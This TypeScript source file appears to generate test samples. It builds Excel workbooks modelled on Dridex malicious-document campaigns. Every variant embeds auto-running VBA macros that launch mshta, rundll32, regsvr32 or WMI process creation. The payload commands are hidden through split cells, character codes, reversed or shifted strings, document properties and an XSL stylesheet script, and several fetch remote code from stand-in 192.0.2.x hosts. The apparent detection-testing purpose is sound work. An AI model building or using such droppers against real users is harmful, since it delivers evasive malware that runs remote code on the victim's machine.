/** Documents after campaigns of Dridex. */

import { column } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { xls, xlsm } from './office.ts'

/** XSL for wmic, Excel 4 from Visual Basic, pages in folders, names of methods as text (2018 to 2021). */
export function dridex(i: number): Buffer {
  const d = disguiseOf(600 + i)
  const [go, part, all, path] = [d.name(), d.name(), d.name(), d.name()]
  const command = `rundll32 C:\\ProgramData\\${path}.dll,DllRegisterServer`
  const open = (body: string, more = ''): Record<string, string> => ({
    ThisWorkbook: `Private Sub Workbook_Open()\n${d.junk(2)}\n${body}\nEnd Sub\n${more}`,
  })
  const page = `<script language="VBScript">CreateObject("WScript.Shell").Run "mshta http://192.0.2.${i}/a"</script>`
  const sheet = `<stylesheet xmlns="http://www.w3.org/1999/XSL/Transform" xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript">new ActiveXObject("WScript.Shell").Run("mshta http://192.0.2.${i}/a")</ms:script></stylesheet>`
  const write = i % 2 === 0 ? xls : xlsm
  const variants: (() => Buffer)[] = [
    () =>
      write({
        modules: open(
          `${path} = "C:\\ProgramData\\${path}.xsl"\nOpen ${path} For Output As #1\nPrint #1, ${go}\nClose #1\nShell "wmic os get /format:" & Chr(34) & ${path} & Chr(34), 0`,
          `Function ${go}()\nFor ${part} = 1 To 3\n${all} = ${all} & Sheets(1).Cells(${part}, 1)\nNext\n${go} = ${all}\nEnd Function`,
        ),
        cells: column('A', [sheet.slice(0, 80), sheet.slice(80, 160), sheet.slice(160)]),
      }),
    () =>
      write({
        modules: open(
          `ExecuteExcel4Macro "CALL(""Shell32"",""ShellExecuteA"",""JJCCCJJ"",0,""open"",""regsvr32"",""-s C:\\ProgramData\\${path}.ocx"",0,0)"`,
        ),
      }),
    () =>
      write({
        modules: open(`${part} = Cells(1, 1)\nApplication.ExecuteExcel4Macro ${part}`),
        cells: { A1: `EXEC("mshta http://192.0.2.${i}/a")` },
      }),
    () =>
      write({
        modules: open(
          `Set ${part} = CreateObject(${d.joined('Shell.Application')})\nCallByName ${part}, ${d.joined('ShellExecute')}, VbMethod, "mshta", "C:\\ProgramData\\${path}.hta"`,
        ),
      }),
    () =>
      xls({
        modules: open(
          `Set ${part} = CreateObject("Scripting.FileSystemObject").CreateTextFile("C:\\ProgramData\\${path}.sct")\nFor ${all} = 1 To 2\n${part}.Write Cells(${all}, 100).Value\nNext\n${part}.Close\nCreateObject("WScript.Shell").Run "mshta C:\\ProgramData\\${path}.sct"`,
        ),
        cells: column('CV', [page.slice(0, 40), page.slice(40)]),
      }),
    () =>
      xlsm({
        modules: open(
          `${all} = ""\nFor Each ${part} In Sheets(1).Range("E1:E${command.length}").SpecialCells(2)\n${all} = ${all} & Chr(${part})\nNext\nSet ${path} = CreateObject("new:F935DC22-1CF0-11D0-ADB9-00C04FD58A0B")\n${path}.Run ${all}, 0`,
        ),
        cells: column(
          'E',
          [...command].map((letter) => String(letter.charCodeAt(0))),
        ),
      }),
    () =>
      xls({
        modules: open(
          `${part} = Sheets(1).Range("A1:A3").Value\n${all} = ${part}(1, 1) & ${part}(2, 1) & ${part}(3, 1)\nShell ${all}, 0`,
        ),
        cells: column('A', ['rundl', 'l32 C:\\ProgramData\\', `${path}.dll,Start`]),
      }),
    () =>
      xlsm({
        modules: {
          Module1: `Sub Auto_Open()\nDim ${part}(2)\n${part}(2) = ${d.joined('.hta')}\n${part}(0) = ${d.joined('mshta http://19')}\n${part}(1) = ${d.joined(`2.0.2.${i}/x`)}\n${go} ${part}\nEnd Sub\nSub ${go}(ByRef ${all})\nWith CreateObject("WScript.Shell")\n.Run Join(${all}, ""), 0, True\nEnd With\nEnd Sub`,
        },
      }),
    () =>
      xlsm({
        modules: open(
          `Dim ${part} As New Collection\nFor ${all} = 1 To 30\n${part}.Add Chr(Asc(Mid("${[
            ...'mshta http://192.0.2.1/abcdef',
          ]
            .map((letter) => String.fromCharCode(letter.charCodeAt(0) + 1))
            .join('')
            .replaceAll(
              '"',
              '""',
            )} ", ${all}, 1)) - 1)\nNext\n${path} = ""\nFor Each x In ${part}: ${path} = ${path} & x: Next\nShell ${path}, 0`,
        ),
      }),
    () =>
      xls({
        modules: {
          Sheet1: `Private Sub Worksheet_Activate()\n${go}\nEnd Sub`,
          Module1: `Public ${all} As String\nSub ${go}()\n${all} = Application.Substitute(Range("A2").Value, "@", "")\nEvaluate ("${part}()")\nEnd Sub\nFunction ${part}()\nShell ${all}, 0\nEnd Function`,
        },
        cells: { A2: d.separated(command, '@') },
      }),
    () =>
      xlsm({
        modules: open(
          `Dim ${part} As String\n${part} = ActiveWorkbook.BuiltinDocumentProperties("Keywords").Value\nSet ${all} = GetObject("winmgmts:")\n${all}.Get("Win32_Process").Create ${part}, Null, Null, p`,
        ),
        core: { keywords: command },
      }),
    () =>
      xlsm({
        modules: open(
          `${part} = ThisWorkbook.CustomDocumentProperties("${go}").Value\nCreateObject("Schedule.Service").Connect\nShell StrReverse(${part}), 0`,
        ),
        properties: { [go]: [...command].reverse().join('') },
      }),
  ]
  return (variants[i] as () => Buffer)()
}
